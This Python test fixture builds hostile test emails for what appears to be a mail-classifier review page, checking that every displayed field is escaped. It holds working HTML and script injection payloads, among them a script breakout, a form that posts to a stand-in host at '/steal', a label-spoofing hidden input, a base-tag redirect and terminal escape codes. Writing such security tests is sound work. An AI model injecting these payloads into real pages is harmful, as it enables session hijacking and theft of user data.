"""Mails that try to run, load, redirect, restyle, escape, or deceive, in every field that the review page shows."""

from analyzer.domain import Address
from analyzer.labels import Label
from tests.report.hostile import ATTACKS, ELSEWHERE
from tests.review.box import Mail

MORE = (
    "</script><script>document.title='owned'</script>",
    "</style><style>body{display:none}</style>",
    f"</textarea></form><form action={ELSEWHERE}/steal method=post><button data-key=1>x</button></form>",
    '"><input type=hidden name=label value=offer><button autofocus>',
    "\x1b]0;owned\x07\x1b[2J\x9b31m",
    f"<form id=say action={ELSEWHERE}><base target=_top href={ELSEWHERE}>",
)


def mails() -> list[Mail]:
    """A mail for each attack."""
    return [
        Mail(
            f"attack{n}",
            attack,
            f"{attack}\n\n{attack} and more of it.",
            Label.REJECTION,
            0.6,
            Label.INTERVIEW_INVITE,
            (attack, attack.split()[0].lower(), "(", "[a-z"),
            Address(attack, f"a@{attack}"),
            message_id=f'{n}"><script>alert(1)</script>@x' if n % 2 else f"attack{n}@harbourlabs.example",
        )
        for n, attack in enumerate((*ATTACKS, *MORE))
    ]
